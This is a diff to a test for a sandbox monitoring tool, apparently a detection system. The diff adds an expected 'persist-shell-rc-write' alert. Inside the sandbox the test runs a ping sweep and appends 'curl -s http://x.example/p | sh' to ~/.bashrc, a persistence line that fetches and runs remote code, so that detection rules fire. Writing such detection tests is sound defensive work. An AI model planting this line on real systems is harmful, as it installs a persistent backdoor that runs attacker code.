@@ -149,7 +149,12 @@ def test_watching_a_real_sandbox() -> None:
         sb.run("for i in 1 2 3; do ping -c 1 10.0.0.$i; done")
         sb.run("echo 'curl -s http://x.example/p | sh' >> ~/.bashrc")
     alerts = {a.rule: a for a in m.alerts()}
-    assert set(alerts) == {"discovery-sweep-loop", "persist-shell-rc-payload", "exec-pipe-to-shell"}
+    assert set(alerts) == {
+        "discovery-sweep-loop",
+        "persist-shell-rc-payload",
+        "exec-pipe-to-shell",
+        "persist-shell-rc-write",  # the shell's file notice: ~/.bashrc appended to
+    }
     # the script and each iteration of the loop are one alert, counted
     assert alerts["discovery-sweep-loop"].count == 4
     assert alerts["discovery-sweep-loop"].summary.endswith(
